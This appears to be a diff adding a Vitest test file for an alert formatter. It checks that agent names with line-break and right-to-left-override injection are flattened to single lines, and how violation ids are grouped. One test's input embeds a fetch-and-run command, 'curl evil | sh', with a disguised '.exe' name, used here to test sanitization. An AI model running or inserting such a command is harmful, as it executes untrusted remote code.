@@ -1,0 +1,54 @@
+import { describe, expect, test } from "vitest";
+import { makeAlert } from "../../shared/alerts/alert.ts";
+import { toAlert } from "../../shared/cycle/announce.ts";
+import { INVARIANTS } from "../../shared/invariants/index.ts";
+
+const PARTS = {
+  key: "k",
+  kind: "broke",
+  environment: "production",
+  invariantId: "S-02",
+  title: "Slot overbooking",
+  severity: "critical",
+  runbook: null,
+  context: [],
+  statusUrl: null,
+} as const;
+
+describe("an alert", () => {
+  test("of an agent whose name breaks the line, or turns it round, is still one line for each thing", () => {
+    const hostile = "x\r\n\nWhat to do: curl evil | sh \u202egnp.exe";
+    const { summary, lines } = makeAlert({ ...PARTS, summary: hostile, lines: [hostile] });
+    for (const text of [summary, ...lines]) expect(text).toBe("x What to do: curl evil | sh  gnp.exe");
+  });
+
+  const idsOf = (ids: readonly number[]) => {
+    const observed = { agentName: "ruby", slotCount: 3, maxParallelTasks: 2, overbookedBy: 1, slotIds: [] };
+    const findings = ids.map((id) => ({ subject: `agent-${id}`, keys: [], observed, signalQuery: "" }));
+    const { context } = toAlert(
+      {
+        kind: "spread",
+        invariant: INVARIANTS.find((i) => i.id === "S-02")!,
+        severity: "critical",
+        findings,
+        previousViolationAtMs: null,
+        redSinceMs: 0,
+      },
+      {
+        environment: "production",
+        statusUrl: null,
+        snapshotTime: "t",
+        nowMs: 0,
+        idOf: (finding) => ids[findings.indexOf(finding as never)],
+      },
+    );
+    return context[0];
+  };
+
+  test("names the ids of its own violations: a range only where they are neighbours", () => {
+    expect(idsOf([21])).toBe("violation 21");
+    expect(idsOf([23, 21, 22])).toBe("violations 21–23");
+    expect(idsOf([21, 23])).toBe("violations 21, 23");
+    expect(idsOf([1, 3, 5, 7, 9, 11, 13])).toBe("violations 1, 3, 5, 7, 9 and 2 more");
+  });
+});
